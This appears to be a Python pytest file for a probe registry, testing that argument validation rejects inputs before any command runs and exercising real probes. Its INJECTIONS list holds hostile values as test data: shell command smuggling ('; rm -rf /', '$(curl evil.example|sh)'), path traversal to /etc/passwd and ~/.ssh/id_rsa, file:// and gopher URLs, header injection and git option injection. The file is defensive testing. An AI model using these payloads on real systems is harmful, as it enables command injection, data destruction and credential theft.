"""The probe registry: validation that rejects before anything runs, and real probes against real things."""

from __future__ import annotations

import http.server
import json
import os
import socket
import stat
import subprocess
import sys
import threading
from typing import Any, Iterator

import pytest

from helpers import git
from memrepo.passes.verify import probes
from memrepo.passes.verify.probes import Call, ClaimRejected, Context, Verdict

TRUE, FALSE, UNKNOWN = Verdict.TRUE, Verdict.FALSE, Verdict.UNKNOWN
PROVIDERS: dict[str, Any] = {"env": {"secret_present": ["printenv", "{name}"]},
                             "fleet": {"instance_exists": ["fleetctl", "show", "{id}"]}}

# (probe, args, the rejection) — each would be dangerous or meaningless if it ran.
INJECTIONS = [
    ("path_exists", {"path": "src/a.py; rm -rf /"}, "path has a forbidden character ';'"),
    ("path_exists", {"path": "$(curl evil.example|sh)"}, "path has a forbidden character '$'"),
    ("path_exists", {"path": "`id`.py"}, "path has a forbidden character '`'"),
    ("path_exists", {"path": "src/a.py\nrm -rf /"}, "path has a forbidden character '\\n'"),
    ("path_exists", {"path": "src/a.py\x00.md"}, "path has a forbidden character '\\x00'"),
    ("path_exists", {"path": "--output=/tmp/x"}, "path starts with '-' (it would be read as an option)"),
    ("path_exists", {"path": "../../etc/passwd"}, "path '../../etc/passwd' climbs out with '..'"),
    ("path_exists", {"path": "src/../../x"}, "path 'src/../../x' climbs out with '..'"),
    ("path_exists", {"path": "/etc/passwd"}, "path '/etc/passwd' is absolute; claims name paths inside a project"),
    ("path_exists", {"path": "~/.ssh/id_rsa"}, "path has a forbidden character '~'"),
    ("path_exists", {"path": "a" * 301}, "path is 301 characters, over 300"),
    ("path_exists", {"path": "src/\u0430pp.py"}, "path has a non-ASCII character U+0430"),
    ("path_exists", {"path": "src\uff0fapp.py"}, "path has a non-ASCII character U+FF0F"),
    ("path_exists", {"path": "src/a.py", "cmd": "rm -rf /"}, "path_exists: unexpected argument 'cmd'"),
    ("path_exists", {"path": ["src/a.py"]}, "path must be text, not list"),
    ("path_exists", ["src/a.py"], "path_exists: arguments must be a mapping"),
    ("run_shell", {"cmd": "rm -rf ~"}, "unknown probe 'run_shell'"),
    ("url_alive", {"url": "file:///etc/passwd"}, "url scheme 'file' is not http or https"),
    ("url_alive", {"url": "javascript:alert(1)"}, "url scheme 'javascript' is not http or https"),
    ("url_alive", {"url": "gopher://127.0.0.1:25/_HELO"}, "url scheme 'gopher' is not http or https"),
    ("url_alive", {"url": "https://deploy:hunter2@ci.example.com/"}, "url carries credentials (user@host)"),
    ("url_alive", {"url": "https://deploy@ci.example.com/"}, "url carries credentials (user@host)"),
    ("url_alive", {"url": "https://api.example.com/v1?access_token=abc123"}, "url carries a credential in its query"),
    ("url_alive", {"url": "https://example.com/" + "a" * 2100}, "url is 2120 characters, over 2048"),
    ("url_alive", {"url": "https://ex\u0430mple.com/"}, "url has a non-ASCII character U+0430"),
    ("url_alive", {"url": "http://127.0.0.1/`id`"}, "url has a forbidden character '`'"),
    ("url_alive", {"url": "http://127.0.0.1/$(id)"}, "url has a forbidden character '$'"),
    ("url_alive", {"url": "http://127.0.0.1/\r\nX-Injected: 1"}, "url has a forbidden character '\\r'"),
    ("url_alive", {"url": "https://example.com:99999/"}, "url port is not a number from 0 to 65535"),
    ("command_exists", {"name": "ls -la"}, "name has a forbidden character ' '"),
    ("command_exists", {"name": "sh|id"}, "name has a forbidden character '|'"),
    ("command_exists", {"name": "/bin/sh"}, "name '/bin/sh' is not of the allowed form"),
    ("git_branch_exists", {"branch": "main&&reboot"}, "branch has a forbidden character '&'"),
    ("git_branch_exists", {"branch": "--upload-pack=touch /tmp/x"}, "branch starts with '-' (it would be read as an option)"),
    ("git_branch_exists", {"branch": "a..b"}, "branch 'a..b' is not a valid git branch name"),
    ("git_branch_exists", {"branch": "main", "repo": "../other"}, "repo '../other' climbs out with '..'"),
    ("pr_merged", {"repo": "acme/api", "number": "12; rm -rf /"}, "number must be an integer, not str"),
    ("pr_merged", {"repo": "acme/api;id", "number": 12}, "repo has a forbidden character ';'"),
    ("pr_merged", {"repo": "acme/api", "number": True}, "number must be an integer, not bool"),
    ("pr_merged", {"repo": "acme/api", "number": 12, "state": "open"}, "pr_merged: unexpected argument 'state'"),
    ("secret_present", {"provider": "vault", "name": "db"}, "secret_present: provider 'vault' is not configured for it (settings `providers`)"),
    ("instance_exists", {"provider": "env", "id": "i-1"}, "instance_exists: provider 'env' is not configured for it (settings `providers`)"),
    ("instance_exists", {"provider": "fleet", "id": "i-1$(id)"}, "id has a forbidden character '$'"),
    ("secret_present", {"provider": "env"}, "secret_present: missing argument 'name'"),
]


class Recorder:
    """Counts every way a probe could touch the world."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.calls: list[str] = []
        for name in ("_spawn", "_fetch", "_which", "_exists"):
            monkeypatch.setattr(probes, name, self._record(name))
        real_popen = subprocess.Popen

        class Popen(real_popen):  # type: ignore[misc,valid-type]
            def __init__(inner, *args: Any, **kwargs: Any) -> None:
                self.calls.append("Popen")
                super().__init__(*args, **kwargs)

        monkeypatch.setattr(subprocess, "Popen", Popen)

    def _record(self, name: str) -> Any:
        def effect(*args: Any, **kwargs: Any) -> Any:
            self.calls.append(name)
            raise AssertionError(f"{name} ran")
        return effect


@pytest.mark.parametrize("probe,args,reason", INJECTIONS, ids=[r for _, _, r in INJECTIONS])
def test_injection_is_rejected_before_anything_runs(monkeypatch: pytest.MonkeyPatch, probe: str, args: Any,
                                                    reason: str) -> None:
    recorder = Recorder(monkeypatch)
    with pytest.raises(ClaimRejected) as exc:
        probes.check(probe, args, PROVIDERS)
    assert str(exc.value) == reason
    # A hand-made Call does not skip validation either.
    with pytest.raises(ClaimRejected) as again:
        probes.run(Call(probe, args), Context({"p": "/tmp"}, PROVIDERS, "p"))  # type: ignore[arg-type]
    assert str(again.value) == reason
    assert recorder.calls == []


def test_there_are_at_least_twenty_injections() -> None:
    assert len(INJECTIONS) >= 20


@pytest.mark.parametrize("probe,args,clean", [
    ("path_exists", {"path": "./src//app.py"}, {"path": "src/app.py"}),
    ("path_exists", {"path": "src/", "project": "shop"}, {"path": "src", "project": "shop"}),
    ("path_exists", {"path": ".github/workflows/ci.yml"}, {"path": ".github/workflows/ci.yml"}),
    ("git_branch_exists", {"branch": "release/2026.11"}, {"branch": "release/2026.11"}),
    ("pr_merged", {"repo": "acme/api", "number": 12}, {"repo": "acme/api", "number": 12}),
    ("url_alive", {"url": "https://example.com/a?b=1&c=2#top"}, {"url": "https://example.com/a?b=1&c=2#top"}),
    ("command_exists", {"name": "python3.11"}, {"name": "python3.11"}),
    ("secret_present", {"provider": "env", "name": "DB_URL"}, {"provider": "env", "name": "DB_URL"}),
    ("instance_exists", {"provider": "fleet", "id": "arn:aws:ec2:eu-west-1:1:instance/i-0ab"},
     {"provider": "fleet", "id": "arn:aws:ec2:eu-west-1:1:instance/i-0ab"}),
])
def test_valid_arguments_are_normalized(probe: str, args: dict[str, Any], clean: dict[str, Any]) -> None:
    assert probes.check(probe, args, PROVIDERS) == Call(probe, clean)


@pytest.mark.parametrize("template,reason", [
    ("printenv {name}", "secret_present: providers.bad.secret_present must be a non-empty list of strings"),
    ([], "secret_present: providers.bad.secret_present must be a non-empty list of strings"),
    (["printenv", "NAME"], "secret_present: providers.bad.secret_present must name a fixed program and use {name} in an argument"),
    (["{name}"], "secret_present: providers.bad.secret_present must name a fixed program and use {name} in an argument"),
])
def test_provider_templates_are_checked(template: Any, reason: str) -> None:
    with pytest.raises(ClaimRejected) as exc:
        probes.check("secret_present", {"provider": "bad", "name": "X"}, {"bad": {"secret_present": template}})
    assert str(exc.value) == reason


def test_url_alive_cannot_express_failure() -> None:
    assert {m.value for m in probes.Liveness} == {TRUE, UNKNOWN}


@pytest.mark.parametrize("call,project,text", [
    (Call("path_exists", {"path": "docs/a.md"}), "shop", "path_exists: docs/a.md (shop)"),
    (Call("path_exists", {"path": "docs/a.md", "project": "web"}), "shop", "path_exists: docs/a.md (web)"),
    (Call("path_exists", {"path": "docs/a.md"}), None, "path_exists: docs/a.md"),
    (Call("git_branch_exists", {"branch": "x", "repo": "vendor/lib"}), "shop", "git_branch_exists: x in vendor/lib (shop)"),
    (Call("pr_merged", {"repo": "acme/api", "number": 7}), "shop", "pr_merged: acme/api#7"),
    (Call("secret_present", {"provider": "env", "name": "K"}), "shop", "secret_present: env K"),
    (Call("url_alive", {"url": "http://x.example/"}), "shop", "url_alive: http://x.example/"),
])
def test_describe(call: Call, project: str | None, text: str) -> None:
    assert probes.describe(call, project) == text


# -- real probes -----------------------------------------------------------------------

@pytest.fixture
def project(tmp_path: Any) -> str:
    root = os.path.join(str(tmp_path), "shop")
    os.makedirs(os.path.join(root, "src", "pkg"))
    with open(os.path.join(root, "src", "app.py"), "w") as fh:
        fh.write("app\n")
    os.makedirs(os.path.join(str(tmp_path), "outside"))
    os.symlink(os.path.join(str(tmp_path), "outside"), os.path.join(root, "escape"))
    return root


def _run(probe: str, args: dict[str, Any], ctx: Context) -> tuple[Verdict, str]:
    out = probes.run(probes.check(probe, args, ctx.providers), ctx)
    return out.verdict, out.detail


@pytest.mark.parametrize("args,memory_project,expected", [
    ({"path": "src/app.py"}, "shop", (TRUE, "exists")),
    ({"path": "src/pkg/"}, "shop", (TRUE, "exists")),
    ({"path": "src/gone.py"}, "shop", (FALSE, "missing")),
    ({"path": "src/app.py", "project": "shop"}, None, (TRUE, "exists")),
    ({"path": "escape"}, "shop", (UNKNOWN, "the path leads outside the project through a link")),
    ({"path": "src/app.py"}, "elsewhere", (UNKNOWN, "project 'elsewhere' has no root on this machine (settings `projects`)")),
    ({"path": "src/app.py"}, None, (UNKNOWN, "no project to resolve the path against")),
])
def test_path_exists(project: str, args: dict[str, Any], memory_project: str | None, expected: tuple[Verdict, str]) -> None:
    assert _run("path_exists", args, Context({"shop": project}, {}, memory_project)) == expected


def test_git_branch_exists(project: str, tmp_path: Any) -> None:
    git(project, "init", "-q", "-b", "main")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "one")
    git(project, "branch", "feature/login")
    git(project, "update-ref", "refs/remotes/origin/staging", "HEAD")
    ctx = Context({"shop": project, "plain": str(tmp_path / "outside")}, {}, "shop")
    assert _run("git_branch_exists", {"branch": "feature/login"}, ctx) == (TRUE, "exists")
    assert _run("git_branch_exists", {"branch": "staging"}, ctx) == (TRUE, "exists")
    assert _run("git_branch_exists", {"branch": "feature/gone"}, ctx) == (FALSE, "no such branch")
    git(project, "branch", "-D", "feature/login")
    assert _run("git_branch_exists", {"branch": "feature/login"}, ctx) == (FALSE, "no such branch")
    assert _run("git_branch_exists", {"branch": "main", "project": "plain"}, ctx) == (UNKNOWN, "no git repository there")
    assert _run("git_branch_exists", {"branch": "main", "repo": "src"}, ctx) == (UNKNOWN, "no git repository there")


# The test servers listen on loopback, which `url_alive` refuses unless this machine allows it.
LOOPBACK_ALLOWED = Context({}, {}, None, ("127.0.0.1",))


@pytest.fixture
def http_base() -> Iterator[str]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            code = {"/ok": 200, "/private": 401, "/moved": 302}.get(self.path, 404)
            self.send_response(code)
            if code == 302:
                self.send_header("Location", "file:///etc/passwd")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def _closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@pytest.mark.parametrize("path,expected", [
    ("/ok", (TRUE, "answers")),
    ("/private", (TRUE, "answers")),
    ("/moved", (TRUE, "answers")),  # answered; the redirect to file:// is never followed
    ("/missing", (UNKNOWN, "no answer from here")),
])
def test_url_alive_on_a_local_server(http_base: str, path: str, expected: tuple[Verdict, str]) -> None:
    assert _run("url_alive", {"url": http_base + path}, LOOPBACK_ALLOWED) == expected


def test_url_alive_on_a_closed_port_is_unknown_never_failed() -> None:
    url = f"http://127.0.0.1:{_closed_port()}/status"
    assert _run("url_alive", {"url": url}, LOOPBACK_ALLOWED) == (UNKNOWN, "no answer from here")


@pytest.mark.parametrize("name,expected", [
    ("git", (TRUE, "on PATH")),
    ("sh", (TRUE, "on PATH")),
    ("memrepo-no-such-command-4f1c", (UNKNOWN, "not on this machine's PATH (proves nothing)")),
])
def test_command_exists(name: str, expected: tuple[Verdict, str]) -> None:
    assert _run("command_exists", {"name": name}, Context({}, {})) == expected


def _script(tmp_path: Any, name: str, code: str) -> str:
    path = os.path.join(str(tmp_path), name)
    with open(path, "w") as fh:
        fh.write(f"#!{sys.executable}\n{code}")
    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    return path


def test_configured_providers(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    log = os.path.join(str(tmp_path), "argv.jsonl")
    fleet = _script(tmp_path, "fleet", "import json, sys\n"
                    f"open({log!r}, 'a').write(json.dumps(sys.argv[1:]) + '\\n')\n"
                    "raise SystemExit({'i-live': 0, 'i-gone': 1}.get(sys.argv[-1].split('=')[-1], 7))\n")
    providers = {"env": {"secret_present": ["printenv", "{name}"]},
                 "fleet": {"instance_exists": [fleet, "describe", "--id={id}"], "absent_exit": [1]}}
    monkeypatch.setenv("SHOP_DB_URL", "postgres://localhost/shop")
    monkeypatch.delenv("SHOP_MISSING", raising=False)
    ctx = Context({}, providers)
    assert _run("secret_present", {"provider": "env", "name": "SHOP_DB_URL"}, ctx) == (TRUE, "present")
    assert _run("secret_present", {"provider": "env", "name": "SHOP_MISSING"}, ctx) == (FALSE, "absent (exit 1)")
    assert _run("instance_exists", {"provider": "fleet", "id": "i-live"}, ctx) == (TRUE, "present")
    assert _run("instance_exists", {"provider": "fleet", "id": "i-gone"}, ctx) == (FALSE, "absent (exit 1)")
    assert _run("instance_exists", {"provider": "fleet", "id": "i-odd"}, ctx) == (UNKNOWN, "exit 7")
    with open(log) as fh:
        assert [json.loads(line) for line in fh] == [["describe", "--id=i-live"], ["describe", "--id=i-gone"],
                                                     ["describe", "--id=i-odd"]]


def _lingering(tmp_path: Any, name: str, before: str = "") -> tuple[str, str, str]:
    """A script that records its pid, does `before`, then sleeps 30 s and leaves a marker.

    No clock in the test: a call that waited for the script to finish would find the marker,
    and one that left it running would find its pid alive (see issue 13, item 6).
    """
    pid_file, done = os.path.join(str(tmp_path), f"{name}.pid"), os.path.join(str(tmp_path), f"{name}.done")
    code = (f"import os, signal, sys, time\nopen({pid_file!r}, 'w').write(str(os.getpid()))\n"
            f"signal.signal(signal.SIGPIPE, signal.SIG_IGN)\n{before}\n"
            f"time.sleep(30)\nopen({done!r}, 'w').write('finished')\n")
    return _script(tmp_path, name, code), pid_file, done


def _gone(pid_file: str, done: str) -> bool:
    """The script was stopped before it finished, and nothing of it runs any more."""
    if os.path.exists(done):
        return False
    if not os.path.exists(pid_file):  # stopped before it even wrote its pid
        return True
    try:
        os.kill(int(open(pid_file).read()), 0)
    except ProcessLookupError:
        return True
    return False


def test_provider_that_hangs_is_unknown(tmp_path: Any) -> None:
    slow, pid_file, done = _lingering(tmp_path, "slow")
    ctx = Context({}, {"slow": {"instance_exists": [slow, "{id}"], "timeout": 0.5}})
    assert _run("instance_exists", {"provider": "slow", "id": "i-1"}, ctx) == (UNKNOWN, "the provider command did not answer")
    assert _gone(pid_file, done)


def test_spawn_reads_a_bounded_amount(tmp_path: Any) -> None:
    before = "try:\n    sys.stdout.write('x' * 5_000_000); sys.stdout.flush()\nexcept OSError:\n    pass"
    loud, pid_file, done = _lingering(tmp_path, "loud", before)
    rc, out = probes._spawn([loud], timeout=2)
    assert (rc, out) == (None, b"x" * probes.MAX_OUTPUT)
    assert _gone(pid_file, done)


def test_spawn_of_a_missing_program() -> None:
    assert probes._spawn(["memrepo-no-such-command-4f1c"]) == (None, b"")


def test_pr_merged_without_gh_is_unknown(monkeypatch: pytest.MonkeyPatch, tmp_path: Any) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))  # no gh here
    assert _run("pr_merged", {"repo": "acme/api", "number": 12}, Context({}, {})) == (UNKNOWN, "gh is not installed")


def test_pr_merged_with_the_real_gh_when_present() -> None:
    verdict, detail = _run("pr_merged", {"repo": "cli/cli", "number": 1}, Context({}, {}))
    if probes._which("gh") is None:
        assert (verdict, detail) == (UNKNOWN, "gh is not installed")
    elif subprocess.run(["gh", "auth", "status"], capture_output=True, timeout=30).returncode != 0:
        assert (verdict, detail) == (UNKNOWN, "gh is not authenticated")
    else:
        # What gh itself says of the pull request, asked independently: the probe must agree.
        view = subprocess.run(["gh", "pr", "view", "1", "--repo", "cli/cli", "--json", "state"],
                              capture_output=True, text=True, timeout=30)
        state = json.loads(view.stdout)["state"] if view.returncode == 0 else None
        expected = {"MERGED": (TRUE, "merged"), "OPEN": (FALSE, "open"), "CLOSED": (FALSE, "closed"),
                    None: (UNKNOWN, "gh could not read the pull request")}[state]
        assert (verdict, detail) == expected


@pytest.mark.parametrize("auth_rc,state,expected", [
    (0, "MERGED", (TRUE, "merged")),
    (0, "OPEN", (FALSE, "open")),
    (0, "CLOSED", (FALSE, "closed")),
    (1, "MERGED", (UNKNOWN, "gh is not authenticated")),
])
def test_pr_merged_through_a_gh_on_path(monkeypatch: pytest.MonkeyPatch, tmp_path: Any, auth_rc: int, state: str,
                                        expected: tuple[Verdict, str]) -> None:
    log = os.path.join(str(tmp_path), "gh.jsonl")
    bindir = tmp_path / "bin"
    bindir.mkdir()
    _script(bindir, "gh", "import json, sys\n"
            f"open({log!r}, 'a').write(json.dumps(sys.argv[1:]) + '\\n')\n"
            f"if sys.argv[1:3] == ['auth', 'status']: raise SystemExit({auth_rc})\n"
            f"print(json.dumps({{'state': {state!r}}}))\n")
    monkeypatch.setenv("PATH", f"{bindir}{os.pathsep}{os.environ['PATH']}")
    assert _run("pr_merged", {"repo": "acme/api", "number": 12}, Context({}, {})) == expected
    with open(log) as fh:
        calls = [json.loads(line) for line in fh]
    assert calls == [["auth", "status"], ["pr", "view", "12", "--repo", "acme/api", "--json", "state"]][: 2 if auth_rc == 0 else 1]
